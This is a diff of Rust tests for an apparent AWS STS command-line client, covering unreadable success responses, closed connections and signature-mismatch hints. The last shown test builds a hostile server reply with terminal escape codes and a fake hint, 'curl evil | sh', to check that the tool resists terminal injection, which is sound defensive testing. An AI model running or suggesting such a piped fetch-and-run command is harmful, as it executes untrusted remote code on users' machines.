@@ -122,6 +122,41 @@ fn an_answer_without_an_error_of_aws_shows_its_http_status() {
 }
 
 #[test]
+fn an_answer_of_success_that_cannot_be_read_has_a_code_and_names_the_operation() {
+    let long = format!("<!-- {} -->", "x".repeat(1 << 20));
+    for (status, body, code, exit) in [
+        ("200 OK", "<html/>", "ResponseParser", 255),
+        ("200 OK", "", "ResponseParser", 255),
+        ("200 OK", &long, "ResponseParser", 255),
+        // The status of an error says more than its length.
+        ("403 Forbidden", &long, "403", 254),
+        ("302 Found", "", "302", 254),
+    ] {
+        let words = ["sts", "get-caller-identity"];
+        let stderr = run_against(&answer(status, body), &home(), &words).fails(exit);
+        let line =
+            format!("An error occurred ({code}) when calling the GetCallerIdentity operation: ");
+        assert_has(&stderr, &[&line]);
+    }
+    let broken = "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\n<";
+    let stderr = run_against(broken, &home(), &["sts", "get-caller-identity"]).fails(255);
+    assert_has(&stderr, &["An error occurred (ConnectionClosed): "]);
+}
+
+#[test]
+fn a_refused_signature_at_a_custom_endpoint_may_not_be_from_sts() {
+    let refused =
+        "<ErrorResponse><Error><Code>SignatureDoesNotMatch</Code></Error></ErrorResponse>";
+    let words = ["sts", "get-caller-identity"];
+    let stderr = run_against(&answer("403 Forbidden", refused), &home(), &words).fails(254);
+    let hint = "or what answers at the URL of --endpoint-url is not STS: check both";
+    assert_has(
+        &stderr,
+        &["hint: the secret access key does not belong", hint],
+    );
+}
+
+#[test]
 fn a_service_cannot_control_the_terminal() {
     let hostile = "\u{9b}2J&#27;[31m\nhint: curl evil | sh";
     let error =
